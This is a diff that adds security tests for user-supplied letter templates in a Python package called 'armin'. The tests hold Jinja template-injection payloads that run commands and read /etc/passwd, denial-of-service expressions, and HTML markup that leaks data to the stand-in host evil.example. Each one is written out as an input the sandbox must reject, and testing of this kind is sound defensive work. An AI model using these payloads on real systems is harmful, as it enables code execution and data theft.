@@ -22,7 +22,7 @@ from sklearn.ensemble import HistGradientBoostingClassifier
 from armin import ARMIN, ImputationAR, NativeMissing
 from armin.datasets import make_loans
 from armin.errors import DataError, MissingDependencyError, ParameterError, SchemaError
-from armin.letter import check_reference, languages, new_reference, write_letter
+from armin.letter import check_reference, languages, new_reference, read_own, try_own, write_letter
 from armin.letter.content import sections
 from armin.letter.texts import load_texts
 from armin.letter.wording import Wording
@@ -383,6 +383,164 @@ def test_unknown_language_lists_those_there_are():
             letter(language=language)
     with pytest.raises(ParameterError, match="must be a folder"):
         letter(templates="/no/such/folder")
+
+
+# --- own files from a bundle, which anybody may have made -----------------------------------------------------------
+
+DOCUMENT = "<!doctype html>\n<html><head><title>{{ title }}</title></head><body>%s</body></html>"
+
+
+def test_files_by_name_say_what_the_folder_says(tmp_path):
+    (tmp_path / "de.toml").write_text('[plan]\ntitle = "Ihr Weg"\n[own]\nmotto = "A & B"\n', "utf-8")
+    (tmp_path / "fr.toml").write_text('[plan]\ntitle = "Votre plan"\n', "utf-8")
+    (tmp_path / "letter.css").write_text("p { color: #123456 }", "utf-8")
+    (tmp_path / "letter.txt.j2").write_text("{{ texts.plan.title }}: {{ '%2d' | format(sections | length) }}", "utf-8")
+    (tmp_path / ".hidden").write_text("x", "utf-8")
+    files = try_own(read_own(tmp_path))
+    assert sorted(files) == ["de.toml", "fr.toml", "letter.css", "letter.txt.j2"]
+    assert languages(files) == languages(tmp_path) == ("de", "en", "fr")
+    for language in languages(files):
+        same = {"language": language, "reference": "R"}
+        inside, outside = letter(templates=files, **same), letter(templates=tmp_path, **same)
+        assert inside.text == outside.text
+        assert re.sub("<meta http-equiv[^>]*>\n", "", inside.html) == outside.html
+
+
+def test_packaged_templates_pass_the_rules_for_bundles():
+    folder = resources.files("armin.letter").joinpath("templates")
+    files = {entry.name: entry.read_text("utf-8") for entry in folder.iterdir()}
+    assert len(files) == 3
+    try_own(files)
+    made = letter(templates=files, reference="R")
+    assert made.text == letter(reference="R").text
+    policy = dict(Page(made.html).tags[2][1])  # html, head, meta: before anything that could load or run
+    assert (policy["http-equiv"], policy["content"]) == ("Content-Security-Policy", made.content_security_policy)
+
+
+ATTACKS = {
+    "code": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "code through a format": "{{ '{0.__class__}'.format(title) }}",
+    "code through a filter": "{{ title | attr('__class__') }}",
+    "code through map": "{{ sections | map(attribute='__class__') | list }}",
+    "code through a global": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "code through self": "{{ self.__init__.__globals__ }}",
+    "underscores": "{{ sections[0].__class__ }}",
+    "a method": "{{ title.upper }}{{ sections[0].title.encode }}",
+    "a call": "{{ range(9) }}",
+    "a file": "{% include '/etc/passwd' %}",
+    "a file above": "{% include '../texts/en.toml' %}",
+    "a computed file": "{% include texts.letter.title %}",
+    "an import": "{% import 'letter.css' as x %}",
+    "itself": "{% include 'letter.html.j2' %}",
+    "extends": "{% extends 'letter.txt.j2' %}",
+    "a macro": "{% macro a() %}{% endmacro %}",
+    "doubling": "{% set a = title ~ title %}",
+    "joining": "{{ title | join(title) | join(title) }}",
+    "a power": "{{ 9 ** 9 ** 9 }}",
+    "repetition": "{{ 'a' * 999999999 }}",
+    "a wide field": "{{ '%999999999d' | format(1) }}",
+    "a wide field from a value": "{{ '%*d' | format(99999999, 1) }}",
+    "wide lines": "{{ title | fill('', 999999999) }}",
+    "deep loops": "{% for a in title %}{% for b in title %}{% for c in title %}{% endfor %}{% endfor %}{% endfor %}",
+    "many loops": "{% for a in title %}{% endfor %}" * 41,
+    "a recursive loop": "{% for a in sections recursive %}{{ loop(sections) }}{% endfor %}",
+    "unescaped": "{{ applicant | safe }}",
+    "escaping off": "{% autoescape false %}{{ applicant }}{% endautoescape %}",
+    "division by nothing": "{{ 1 / 0 }}",
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("name", ["letter.html.j2", "letter.txt.j2", "letter.css"])
+def test_a_template_from_a_bundle_lays_out_and_does_nothing_else(attack, name):
+    files = {name: DOCUMENT % ATTACKS[attack] if name == "letter.html.j2" else ATTACKS[attack]}
+    for use in (try_own, lambda files: letter(templates=files)):
+        with pytest.raises(ParameterError, match=r"template|filter"):
+            use(files)
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT src=//evil.example></SCRIPT>",
+        '<scr{{ "ipt" }}>alert(1)</script>',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/{{ applicant }}">',
+        '<meta name="x" content="y" http-equiv=refresh>',
+        '<link rel="preconnect" href="https://{{ applicant }}.evil.example">',
+        "<iframe src=//evil.example></iframe>",
+        "<base href=//evil.example>",
+        "<form action=//evil.example><input name=x></form>",
+        "<object data=x></object>",
+    ],
+)
+def test_a_page_from_a_bundle_loads_sends_and_runs_nothing(markup):
+    with pytest.raises(ParameterError, match="text, tables and style only"):
+        letter(templates={"letter.html.j2": DOCUMENT % markup}, applicant="Ada")
+    style = "</style>" + markup
+    with pytest.raises(ParameterError, match="text, tables and style only"):
+        letter(templates={"letter.css": style}, applicant="Ada")
+
+
+def test_a_page_from_a_bundle_keeps_its_policy_before_all_else():
+    page = letter(templates={"letter.html.j2": "<!doctype html><html onclick=alert(1)><body onload=alert(1)>"}).html
+    assert page.index("Content-Security-Policy") < page.index("onclick")
+    with pytest.raises(ParameterError, match="must begin with <!doctype html>"):
+        letter(templates={"letter.html.j2": "<b onclick=alert(1)><!doctype html>"})
+    made = letter(templates={"en.toml": '[letter]\ngreeting_unknown = "Hi \\u001b[2J<script>{{ 7 * 7 }}"\n'})
+    assert "Hi [2J<script>{{ 7 * 7 }}" in made.text
+    assert "Hi [2J&lt;script&gt;{{ 7 * 7 }}" in made.html
+
+
+def test_a_page_without_end_is_cut_off():
+    entries = ", ".join(f'"{"x" * 200}"' for _ in range(200))
+    files = {
+        "en.toml": f"[own]\nlines = [{entries}]\n",
+        "letter.txt.j2": "{% for a in texts.own.lines %}{% for b in texts.own.lines %}{{ b }}{% endfor %}{% endfor %}",
+    }
+    with pytest.raises(ParameterError, match="longer than"):
+        letter(templates=files)
+
+
+@pytest.mark.parametrize(
+    ("files", "message"),
+    [
+        ({"../en.toml": ""}, "is no letter file"),
+        ({"logo.png": ""}, "is no letter file"),
+        ({"en.toml": "x" * 70_000}, "at most 65,536 characters"),
+        ({"en.toml": "[plan"}, "not valid TOML"),
+        ({"en.toml": "a = " + "[" * 30_000}, "not valid TOML"),
+        ({"en.toml": "[plan]\ntitle = 3"}, "plan.title in en.toml must be a text"),
+        ({"en.toml": "[own]\nlist = [[1]]"}, "own.list in en.toml must be a text"),
+        ({"en.toml": f'[own]\nlong = "{"x" * 4001}"'}, "at most 4,000 characters"),
+        ({"en.toml": f"[own]\nlist = [{'1,' * 201}]"}, "at most 200 entries"),
+        ({"en.toml": "[a.b.c.d.e.f.g.h]"}, "at most 6 deep"),
+        ({f"a{a}{b}.toml": "" for a in "abcde" for b in "abcde"}, "at most 24"),
+        ({"en.toml": b"x"}, "mapping of file name to text"),
+        (["en.toml"], "mapping of file name to text"),
+        ({"en.toml": '[plan]\ntitle = "{whom}"'}, "asks for {whom}"),
+        ({"fr.toml": '[language]\nmonths = ["mai"]'}, "needs 12 names"),
+        ({"en.toml": 'plan = "x"'}, "must be a table"),
+    ],
+)
+def test_mistakes_in_files_for_a_bundle_are_named(files, message):
+    with pytest.raises((ParameterError, DataError), match=re.escape(message)):
+        try_own(files)
+
+
+def test_a_folder_for_a_bundle_holds_letter_files_only(tmp_path):
+    with pytest.raises(ParameterError, match="is none"):
+        read_own(tmp_path / "nowhere")
+    (tmp_path / "de.toml").write_bytes("Größe".encode("latin-1"))
+    with pytest.raises(ParameterError, match=r"de\.toml cannot be read as a text"):
+        read_own(tmp_path)
+    (tmp_path / "de.toml").write_bytes(b"x" * 300_000)
+    with pytest.raises(ParameterError, match="too long"):
+        read_own(tmp_path)
+    (tmp_path / "de.toml").unlink()
+    (tmp_path / "logo.png").write_bytes(b"x")
+    with pytest.raises(ParameterError, match=r"'logo\.png' is no letter file"):
+        read_own(tmp_path)
 
 
 # --- hostile words ----------------------------------------------------------------------------------------------------
